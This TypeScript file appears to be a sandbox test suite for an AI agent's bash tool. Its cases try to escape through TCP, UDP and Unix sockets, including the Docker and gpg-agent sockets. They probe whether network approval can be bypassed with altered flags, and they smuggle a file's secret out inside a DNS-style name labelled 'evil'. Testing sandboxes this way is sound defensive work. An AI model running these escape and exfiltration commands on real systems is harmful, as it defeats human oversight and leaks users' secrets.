// Rows 24, 26 and 70: ways out of the sandbox by sockets, of every family there is, and secrets in names that are looked up.
import { spawn } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer, type ListenOptions } from 'node:net'
import { join } from 'node:path'
import type { Policy } from '../../src/index.ts'
import type { Json } from '../../src/kernel/content.ts'
import { bashTool } from '../../src/tools/shell/bash.ts'
import type { Case, Row } from './case.ts'
import type { Weakness } from './walls.ts'
import { sleep, type World } from './world.ts'

/** What reached a listener of the host. */
const met = new WeakMap<World, string[]>()

function meets(world: World, what: string): void {
  met.set(world, [...(met.get(world) ?? []), what])
}

async function stream(world: World, where: ListenOptions): Promise<number> {
  const server = createServer((socket) => {
    socket.on('error', () => {}).on('data', (data) => meets(world, data.toString()))
    meets(world, 'connection')
  })
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(where, resolve))
  world.defer(() => server.close())
  const address = server.address()
  return address !== null && typeof address === 'object' ? address.port : 0
}

async function datagrams(world: World, type: 'udp4' | 'udp6', host: string): Promise<number> {
  const socket = createSocket(type, (data) => meets(world, data.toString()))
  await new Promise<void>((resolve) => socket.bind(0, host, resolve))
  world.defer(() => socket.close())
  return socket.address().port
}

const perl = (code: string): string => `perl -e '${code}'`
/** An abstract socket's name has exact length or is padded with zeros, as its server chose: try both. */
const unix = (path: string): string =>
  perl(`use Socket; for my $form ("S a*", "S a108") {
    socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack($form, AF_UNIX, ${path})) and syswrite($s, "hello") }`)

type Way = { readonly name: string; readonly weakness: Weakness; readonly command: (world: World) => Promise<string> }

const WAYS: readonly Way[] = [
  {
    name: 'connects by TCP',
    weakness: 'network',
    command: async (world) => `echo hello > /dev/tcp/127.0.0.1/${await stream(world, { port: 0, host: '127.0.0.1' })}`,
  },
  {
    name: 'connects by TCP over IPv6',
    weakness: 'network',
    command: async (world) => `echo hello > /dev/tcp/::1/${await stream(world, { port: 0, host: '::1' })}`,
  },
  {
    name: 'connects by TCP to every address of this host',
    weakness: 'network',
    command: async (world) => `echo hello > /dev/tcp/0.0.0.0/${await stream(world, { port: 0, host: '0.0.0.0' })}`,
  },
  {
    name: 'sends by UDP',
    weakness: 'network',
    command: async (world) => `echo hello > /dev/udp/127.0.0.1/${await datagrams(world, 'udp4', '127.0.0.1')}`,
  },
  {
    name: 'sends by UDP over IPv6',
    weakness: 'network',
    command: async (world) => `echo hello > /dev/udp/::1/${await datagrams(world, 'udp6', '::1')}`,
  },
  {
    name: 'connects to an abstract socket',
    weakness: 'sockets',
    command: async (world) => {
      await stream(world, { path: `\0terret-${world.mark}` })
      return unix(`"\\0terret-${world.mark}"`)
    },
  },
  {
    name: 'connects to a socket in /tmp',
    weakness: 'tmp',
    command: async (world) => {
      const folder = mkdtempSync('/tmp/terret-attack-')
      world.defer(() => rmSync(folder, { recursive: true, force: true }))
      await stream(world, { path: join(folder, 's') })
      return unix(`"${folder}/s"`)
    },
  },
  {
    name: 'connects to a socket of the host that is in no hidden folder',
    weakness: 'calls',
    command: async (world) => {
      await stream(world, { path: join(world.root, 'daemon.sock') })
      return unix(`"${world.root}/daemon.sock"`)
    },
  },
  {
    name: 'connects to the socket of an agent at home',
    weakness: 'masks',
    command: async (world) => {
      mkdirSync(join(world.home, '.gnupg'))
      await stream(world, { path: join(world.home, '.gnupg/S.gpg-agent') })
      return unix(`"${world.home}/.gnupg/S.gpg-agent"`)
    },
  },
  {
    name: 'connects to the socket of a container daemon',
    weakness: 'masks',
    command: async (world) => {
      mkdirSync(join(world.home, '.docker/run'), { recursive: true })
      await stream(world, { path: join(world.home, '.docker/run/docker.sock') })
      return unix(`"${world.home}/.docker/run/docker.sock"`)
    },
  },
]

const ways: readonly Case[] = WAYS.map(({ name, weakness, command }) => ({
  name,
  needs: ['bubblewrap'],
  attack: async (world) => {
    await world.run(world.bash(weakness), await command(world))
    await sleep(50)
  },
  harmed: (world) => met.has(world),
}))

const daemon: Case = {
  name: 'connects to the socket of a daemon in /run',
  needs: ['bubblewrap', 'root'],
  attack: async (world) => {
    const path = `/run/terret-${world.mark}.sock`
    await stream(world, { path })
    await world.run(world.bash('masks'), unix(`"${path}"`))
    await sleep(50)
  },
  harmed: (world) => met.has(world),
}

/** Families that no address of the host is needed for: to be able to open one is the harm. */
function family(name: string, socket: string): Case {
  return {
    name: `opens a socket of ${name}`,
    needs: ['bubblewrap'],
    attack: (world) => world.run(world.bash('calls'), perl(`socket(my $s, ${socket}) and open(my $f, ">", "opened")`)),
    harmed: (world) => world.has('ws/opened'),
  }
}

/** Only a command that a person gave the network to has it, however it is requested and whatever the rules allow. */
function unasked(name: string, more: Json): Case {
  return {
    name: `asks for the network ${name}, and nobody is asked`,
    needs: ['bubblewrap'],
    attack: async (world) => {
      const port = await stream(world, { port: 0, host: '127.0.0.1' })
      const real = bashTool({ workspace: world.workspace, env: { ...process.env, HOME: world.home } })
      const tool = world.defended ? real : { ...real, approval: () => 'auto' as const }
      const policy: Policy = { rules: [{ effect: 'allow' }] }
      const command = `echo hello > /dev/tcp/127.0.0.1/${port}`
      const args = { command, ...(more as object) } as Json
      await world.call([tool], 'bash', name.includes('envelope') ? { arguments: args } : args, {
        approvals: { policy },
      })
      await sleep(50)
    },
    harmed: (world) => met.has(world),
  }
}

export const egress: Row = {
  row: 24,
  title: 'sockets out of the sandbox',
  cases: [
    ...ways,
    daemon,
    family('another kind of machine (vsock)', '40, 1, 0'),
    family('the kernel about its sockets (netlink diag)', '16, 3, 4'),
    family('the kernel about its devices (netlink uevent)', '16, 3, 15'),
    family('the kernel about anything (netlink generic)', '16, 3, 16'),
    unasked('plainly', { network: true }),
    unasked('as text', { network: 'true' }),
    unasked('in an envelope', { network: true }),
  ],
}

/** A listener of the host in a process of its own: bound, and then named as the case says. `$ARGV[0]` is a folder outside. */
async function bound(world: World, code: string, type = 'SOCK_STREAM', before: readonly string[] = []): Promise<void> {
  const hear = `while (1) { ${type === 'SOCK_STREAM' ? 'accept(my $c, $s) and' : 'recv($s, my $d, 9, 0);'} syswrite(STDOUT, "met") }`
  const start = `use Socket; sub at { pack_sockaddr_un($_[0]) } chdir $ARGV[0]; socket(my $s, AF_UNIX, ${type}, 0); ${code};
    ${type === 'SOCK_STREAM' ? 'listen($s, 9);' : ''} syswrite(STDOUT, "up"); ${hear}`
  const [file, ...args] = [...before, 'perl', '-e', start, world.outside]
  const child = spawn(file, args, { stdio: ['ignore', 'pipe', 'inherit'] })
  world.defer(() => child.kill('SIGKILL'))
  await new Promise<void>((resolve, reject) => {
    child.once('error', reject).once('exit', () => reject(new Error('the listener of the host did not start')))
    child.stdout.on('data', (data: Buffer) => (data.toString() === 'up' ? resolve() : meets(world, 'connection')))
  })
}

/** Names that a list of listening sockets does not show, or shows otherwise. */
function hidden(name: string, path: string, listen: (world: World) => Promise<void>, more = {}): Case {
  return {
    name: `connects to a socket of the host that ${name}`,
    needs: ['bubblewrap'],
    attack: async (world) => {
      await listen(world)
      await world.run(world.bash('calls'), unix(`"${world.outside}/${path}"`), more)
      await sleep(100)
    },
    harmed: (world) => met.has(world),
  }
}

const paired: Case = {
  name: 'sends to a socket of the host with one of a pair',
  needs: ['bubblewrap'],
  attack: async (world) => {
    await bound(world, 'bind($s, at("s"))', 'SOCK_DGRAM')
    const send = `use Socket; socketpair(my $a, my $b, AF_UNIX, SOCK_DGRAM, 0); send($a, "hello", 0, pack_sockaddr_un("${world.outside}/s"))`
    await world.run(world.bash('calls'), perl(send))
    await sleep(100)
  },
  harmed: (world) => met.has(world),
}

export const hostSockets: Row = {
  row: 70,
  title: 'sockets of the host under other names',
  cases: [
    hidden('was bound by a relative path', 's', (world) => bound(world, 'bind($s, at("s"))')),
    hidden('was renamed', 't', (world) => bound(world, 'bind($s, at("$ARGV[0]/s")); rename("s", "t")')),
    hidden('has a second name', 't', (world) =>
      bound(world, 'bind($s, at("$ARGV[0]/s")); link("s", "t"); unlink("s")'),
    ),
    hidden('has spaces and line ends in its name', 'a b\\n  c', (world) =>
      bound(world, 'bind($s, at("$ARGV[0]/a b\\n  c"))'),
    ),
    hidden('has a name that is no text', '\\xff\\xfe', (world) => bound(world, 'bind($s, at("$ARGV[0]/\\xff\\xfe"))')),
    hidden('was bound in another network', 's', (world) =>
      bound(world, 'bind($s, at("$ARGV[0]/s"))', 'SOCK_STREAM', ['unshare', '-rn']),
    ),
    hidden('is reached by a link', 'l/s', (world) => bound(world, 'mkdir "d"; symlink("d", "l"); bind($s, at("d/s"))')),
    hidden('is there, and the network is allowed', 's', (world) => bound(world, 'bind($s, at("s"))'), {
      network: true,
    }),
    paired,
  ],
}

function exfiltration(name: string, command: (world: World) => Promise<string>): Case {
  return {
    name,
    needs: ['bubblewrap'],
    attack: async (world) => {
      world.put('ws/secret.txt', world.secret)
      await world.run(world.bash('network'), await command(world))
      await sleep(50)
    },
    harmed: (world) => (met.get(world) ?? []).some((data) => data.includes(world.secret)),
  }
}

const QUERY = `printf "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x20$(cat secret.txt)\\x04evil\\x00\\x00\\x01\\x00\\x01"`

export const labels: Row = {
  row: 26,
  title: 'secrets in names that are looked up',
  cases: [
    exfiltration(
      'asks for a name that holds a secret, by UDP',
      async (world) => `${QUERY} > /dev/udp/127.0.0.1/${await datagrams(world, 'udp4', '127.0.0.1')}`,
    ),
    exfiltration(
      'asks for a name that holds a secret, by TCP',
      async (world) => `${QUERY} > /dev/tcp/127.0.0.1/${await stream(world, { port: 0, host: '127.0.0.1' })}`,
    ),
    exfiltration(
      'asks for a name that holds a secret, over IPv6',
      async (world) => `${QUERY} > /dev/udp/::1/${await datagrams(world, 'udp6', '::1')}`,
    ),
  ],
}
